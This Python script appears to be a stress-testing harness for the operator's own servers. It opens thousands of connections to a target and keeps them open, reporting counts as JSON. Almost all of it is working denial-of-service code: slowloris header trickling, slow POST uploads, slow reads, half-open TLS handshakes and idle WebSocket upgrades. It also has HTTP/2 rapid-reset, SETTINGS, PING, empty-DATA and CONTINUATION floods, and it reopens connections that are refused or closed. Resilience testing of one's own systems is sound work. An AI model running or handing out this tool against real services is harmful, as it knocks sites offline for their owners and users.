"""Somebody who wants an edge for himself alone: thousands of connections that are never used for what they are for.

Runs on a host of the estate with the system's Python. Settings as JSON in the first line of standard input, a token of
the application in the second. Connections that are refused or closed are opened again, up to `attempts`; all ends
`seconds` after all have been opened. Prints as JSON how many were open at most, and how they ended.
"""

import asyncio
import base64
import itertools
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from contextlib import suppress

settings = json.loads(sys.stdin.readline())
token = sys.stdin.readline().strip()
NAME, ADDRESS, KIND = settings["name"], settings["address"], settings["kind"]
PATIENCE = 10
LATEST = 5  # times the time that was given
AGAIN_SECONDS = 2
PAUSE_SECONDS = 0.5
AT_ONCE = 50  # frames, or requests and their ends, of one write
seen: Counter[str] = Counter()
held = 0


def context(*protocols):
    made = ssl.create_default_context(cafile=settings["ca"])
    made.set_alpn_protocols(list(protocols) or ["http/1.1"])
    return made


TLS, TLS_H2 = context(), context("h2")


async def plain(source, receive_buffer=None):
    """A TCP connection from one address."""
    made = socket.socket(socket.AF_INET6 if ":" in source else socket.AF_INET)
    made.setblocking(False)
    if receive_buffer:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    try:
        made.bind((source, 0))
        await asyncio.wait_for(asyncio.get_running_loop().sock_connect(made, (ADDRESS, 443)), PATIENCE)
    except BaseException:
        made.close()
        raise
    return made


async def encrypted(source, tls=TLS, **how):
    """Streams over a finished TLS handshake. limit: what is read although nobody asks for it."""
    made = await plain(source, **how)
    try:
        streams = asyncio.open_connection(sock=made, ssl=tls, server_hostname=NAME, limit=1024)
        return await asyncio.wait_for(streams, PATIENCE)
    except BaseException:
        made.close()
        raise


def head(method, path, *lines):
    first = (f"{method} {path} HTTP/1.1", f"Host: {NAME}", f"Authorization: Bearer {token}")
    return "\r\n".join((*first, *lines, "", "")).encode()


async def until_closed(reader):
    """Nothing is said until the other side ends it."""
    with suppress(OSError):
        while await reader.read(512):
            pass


async def trickle(reader, writer, pieces):
    """One piece a second, until the other side has had enough."""
    closed = asyncio.create_task(until_closed(reader))
    for piece in pieces:
        writer.write(piece)
        done, _ = await asyncio.wait([closed], timeout=1)
        if done:
            return
    await closed


async def idle(source):
    made = await plain(source)
    try:
        yield
        await asyncio.get_running_loop().sock_recv(made, 1)
    finally:
        made.close()


async def handshakes(source):
    """The client's first message, and nothing more."""
    ours = ssl.MemoryBIO()
    said = TLS.wrap_bio(ssl.MemoryBIO(), ours, server_hostname=NAME)
    with suppress(ssl.SSLWantReadError):
        said.do_handshake()
    made = await plain(source)
    try:
        await asyncio.get_running_loop().sock_sendall(made, ours.read())
        yield
        while await asyncio.get_running_loop().sock_recv(made, 4096):
            pass
    finally:
        made.close()


async def headers(source):
    reader, writer = await encrypted(source)
    try:
        yield
        await trickle(reader, writer, [f"GET /healthz HTTP/1.1\r\nHost: {NAME}\r\n".encode(), *[b"X-A: b\r\n"] * 3600])
    finally:
        writer.transport.abort()


async def bodies(source):
    reader, writer = await encrypted(source)
    try:
        writer.write(head("POST", "/uploads?name=flood", "Content-Length: 1000000"))
        yield
        await trickle(reader, writer, [b"x"] * 3600)
    finally:
        writer.transport.abort()


async def reads(source):
    """Asks for a large file and never takes it."""
    _, writer = await encrypted(source, receive_buffer=4096)
    try:
        writer.transport.pause_reading()
        writer.write(head("GET", settings["file"]))
        yield
        while not writer.is_closing():
            await asyncio.sleep(1)
    finally:
        writer.transport.abort()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(*more):
    """Header block of a request for /statistics; more: whole encoded fields."""
    path = b"/statistics"
    return b"\x82\x87" + bytes([0x04, len(path)]) + path + bytes([0x41, len(NAME)]) + NAME.encode() + b"".join(more)


async def http2(source, batches, first=b""):
    """One batch of frames after another in a connection of HTTP/2, until it is closed."""
    reader, writer = await encrypted(source, TLS_H2)
    try:
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + first)
        yield
        closed = asyncio.create_task(until_closed(reader))
        while not closed.done():
            writer.write(next(batches))
            seen["frames"] += AT_ONCE
            await writer.drain()
            await asyncio.sleep(PAUSE_SECONDS)
    finally:
        writer.transport.abort()


def _cancelled():
    stream = 1
    while True:
        frames = b""
        for _ in range(AT_ONCE):
            frames += frame(1, 5, stream, block()) + frame(3, 0, stream, struct.pack(">I", 8))
            stream += 2
        yield frames


def resets(source):
    """Asks and cancels, again and again."""
    return http2(source, _cancelled())


def settings_frames(source):
    """Settings that must each be acknowledged."""
    return http2(source, itertools.repeat(frame(4, 0, 0, struct.pack(">HI", 4, 65_535)) * AT_ONCE))


def pings(source):
    return http2(source, itertools.repeat(frame(6, 0, 0, b"xteam123") * AT_ONCE))


def empty_frames(source):
    """A body of frames with nothing in them."""
    length = b"\x0f\x0d\x041000"  # content-length
    return http2(source, itertools.repeat(frame(0, 0, 1) * AT_ONCE), frame(1, 4, 1, b"\x83" + block(length)[1:]))


def continuations(source):
    """A header that never ends."""
    piece = b"\x00\x01a\x01b"
    return http2(source, itertools.repeat(frame(9, 0, 1, piece) * AT_ONCE), frame(1, 0, 1, block()))


async def websockets(source):
    reader, writer = await encrypted(source)
    key = base64.b64encode(os.urandom(16)).decode()
    try:
        upgrade = ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13")
        writer.write(head("GET", "/ws", *upgrade, f"Sec-WebSocket-Key: {key}"))
        top = await asyncio.wait_for(reader.readline(), PATIENCE)
        seen[f"upgrade_{top[9:12].decode()}"] += 1
        yield
        await until_closed(reader)
    finally:
        writer.transport.abort()


HTTP2 = (resets, settings_frames, pings, empty_frames, continuations)
KINDS = {one.__name__: one for one in (idle, handshakes, headers, bodies, reads, websockets, *HTTP2)}


async def attacker(source):
    """One connection, opened again when it is gone."""
    global held
    while seen["attempts"] < settings["attempts"]:
        seen["attempts"] += 1
        one, counted = KINDS[KIND](source), False
        try:
            await anext(one)
            held, counted = held + 1, True
            seen["most_open"] = max(seen["most_open"], held)
            await anext(one)
        except (StopAsyncIteration, OSError, TimeoutError, asyncio.IncompleteReadError) as error:
            kind = "closed" if counted else "refused"
            seen[kind] += 1
            seen[f"{kind}_{type(error).__name__}"] += 1
        finally:
            held -= counted
            await one.aclose()
        await asyncio.sleep(AGAIN_SECONDS)


def end():
    """Once all have been opened, and have been there for the time; much later in any case, on a busy host."""
    began = opened = time.monotonic()
    while (now := time.monotonic()) < opened + settings["seconds"] and now < began + LATEST * settings["seconds"]:
        time.sleep(0.5)
        if seen["attempts"] < settings["connections"]:
            opened = now
    print(json.dumps(dict.copy(seen)), flush=True)
    os._exit(0)  # the kernel closes thousands of connections faster than thousands of tasks do


async def main():
    sources = settings["sources"]
    tasks = []
    # Beside the loop, which has thousands of tasks to look after.
    threading.Thread(target=end, daemon=True).start()
    for number in range(settings["connections"]):
        tasks.append(asyncio.create_task(attacker(sources[number % len(sources)])))
        if number % 50 == 0:
            await asyncio.sleep(0.02)
    await asyncio.wait(tasks)
    await asyncio.sleep(LATEST * settings["seconds"])


asyncio.run(main())
